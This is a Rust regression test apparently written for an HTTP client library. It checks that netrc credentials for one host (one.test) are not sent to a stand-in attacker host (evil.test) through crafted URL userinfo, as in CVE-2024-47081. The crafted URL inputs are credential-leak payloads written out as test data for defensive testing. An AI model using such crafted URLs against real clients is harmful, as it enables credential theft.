//! Whose credentials are sent to whom.

use crate::support::{builder, last, named};
use std::process::Command;
use waterclock_lab::Server;

/// Set in the process that has the netrc file.
const CHILD: &str = "WATERCLOCK_CVES_CHILD";

/// requests cut the host for netrc out of the URL's text: `http://one.test:@evil.test/` got evil.test
/// the password of one.test.
#[test]
fn cve_2024_47081_netrc_of_another_host() {
    if std::env::var_os(CHILD).is_none() {
        let directory = std::env::temp_dir();
        let file = directory.join(format!("waterclock-cve-2024-47081-{}", std::process::id()));
        std::fs::write(&file, "machine one.test login user password secret\n").unwrap();
        let name = "credentials::cve_2024_47081_netrc_of_another_host";
        let mut child = Command::new(std::env::current_exe().unwrap());
        child.args(["--exact", name, "--nocapture"]).env(CHILD, "1").env("NETRC", &file);
        for name in ["http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY"] {
            child.env_remove(name);
        }
        let output = child.output().unwrap();
        std::fs::remove_file(file).unwrap();
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        let errors = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(output.status.success() && text.contains("1 passed"), "{text}\n{errors}");
        return;
    }
    let server = Server::builder().start().unwrap();
    let session = named(named(builder(), "one.test", &server), "evil.test", &server);
    let session = session.trust_env(true).build().unwrap();
    let send = |url: &str| {
        let sent = session.get(url).send();
        assert!(sent.is_ok(), "{url}: {sent:?}");
        last(&server).header("authorization").map(str::to_owned)
    };
    // `user:secret`
    let secret = Some("Basic dXNlcjpzZWNyZXQ=".to_owned());
    assert_eq!(send(&server.url_for("one.test", "/")), secret);
    let evil = server.url_for("evil.test", "/");
    let crafted = |userinfo: &str| evil.replace("//", &format!("//{userinfo}@"));
    assert_eq!(send(&evil), None);
    for userinfo in ["one.test:", "one.test", "one.test:80", "one.test%3A80", ":one.test", ""] {
        assert_ne!(send(&crafted(userinfo)), secret, "{userinfo}");
    }
    for path in ["/@one.test", "/?@one.test/", "/#@one.test", "//one.test/"] {
        assert_eq!(send(&server.url_for("evil.test", path)), None, "{path}");
    }
}
